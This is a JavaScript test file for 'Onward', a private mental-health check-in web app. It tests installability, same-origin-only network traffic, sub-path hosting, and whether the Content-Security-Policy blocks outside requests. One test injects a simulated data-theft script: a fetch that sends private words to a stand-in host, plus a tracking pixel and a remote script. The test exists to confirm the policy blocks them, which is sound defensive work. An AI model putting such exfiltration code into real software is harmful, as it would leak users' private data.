// Private by construction: the page asks only its own origin for anything, its
// Content-Security-Policy stops a script that tries otherwise, it works from a sub-path of
// a static host, and the browser finds it installable.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import * as h from './harness.mjs';

let server;
before(async () => { server = await h.startServer(); });
after(() => server.stop());

test('the browser reports the app installable: a valid manifest, icons, no installability errors', async (t) => {
  const ctx = await h.launchFor(t, h.newProfileDir());
  const page = await h.openApp(ctx, server.url);
  const cdp = await ctx.newCDPSession(page);
  const manifest = await cdp.send('Page.getAppManifest');
  assert.deepEqual(manifest.errors, [], 'the manifest parses without errors');
  const parsed = JSON.parse(manifest.data);
  assert.equal(parsed.short_name, 'Onward');
  assert.equal(parsed.display, 'standalone');
  assert.ok(parsed.icons.some((i) => i.purpose === 'maskable'), 'a maskable icon is offered');
  for (const icon of parsed.icons) {
    const res = await page.request.get(new URL(icon.src, manifest.url).href);
    assert.equal(res.headers()['content-type'], 'image/png', `${icon.src} is a PNG`);
  }
  const { installabilityErrors } = await cdp.send('Page.getInstallabilityErrors');
  assert.deepEqual(installabilityErrors, []);
});

test('a whole session asks only the page\'s own origin for anything, and the policy raises no complaint', async (t) => {
  const ctx = await h.launchFor(t, h.newProfileDir());
  const requests = [];
  ctx.on('request', (r) => requests.push(r.url()));
  const page = await h.openApp(ctx, server.url);
  await h.click(page, 'Distress 4');
  await h.click(page, 'Save check-in');
  await h.click(page, "I'm overwhelmed");
  await h.click(page, 'Breathe with me');
  await h.click(page, 'Start breathing', { animating: true });
  await page.waitForTimeout(1000);
  await h.click(page, 'Finish', { animating: true });
  await h.settle(page);
  const origin = new URL(server.url).origin;
  assert.ok(requests.length >= 4, `the app's own files were requested (${requests.length})`);
  for (const url of requests) assert.equal(new URL(url).origin, origin, `${url} is same-origin`);
  assert.deepEqual(page.onwardErrors, [], 'no console errors, CSP violations included');
});

test('a script that tries to reach another origin is stopped by the Content-Security-Policy', async (t) => {
  const ctx = await h.launchFor(t, h.newProfileDir());
  const page = await h.openApp(ctx, server.url);
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let fetched = false;
    try { await fetch('http://127.0.0.2:9/steal?words=private'); fetched = true; } catch { /* blocked */ }
    const img = new Image();
    img.src = 'http://127.0.0.2:9/pixel.png';
    const script = document.createElement('script');
    script.src = 'http://127.0.0.2:9/tracker.js';
    document.body.appendChild(script);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { fetched, violations };
  });
  assert.equal(outcome.fetched, false, 'the fetch did not go out');
  for (const directive of ['connect-src', 'img-src', 'script-src-elem'])
    assert.ok(outcome.violations.includes(directive), `${directive} was enforced (${outcome.violations.join(', ')})`);
});

test('served from a sub-path of a static host, the app starts and saves', async (t) => {
  const host = await h.startServer(path.dirname(h.site)); // build/web: the site is at /site/
  t.after(() => host.stop());
  const ctx = await h.launchFor(t, h.newProfileDir());
  const page = await h.openApp(ctx, `${host.url}${path.basename(h.site)}/`);
  await h.click(page, 'Distress 2');
  await h.click(page, 'Save check-in');
  await h.until(page, async () => Object.keys(await h.storedRecords(page)).length === 1);
  assert.equal(Object.keys(await h.storedRecords(page)).length, 1);
  const cdp = await ctx.newCDPSession(page);
  assert.deepEqual((await cdp.send('Page.getAppManifest')).errors, []);
});
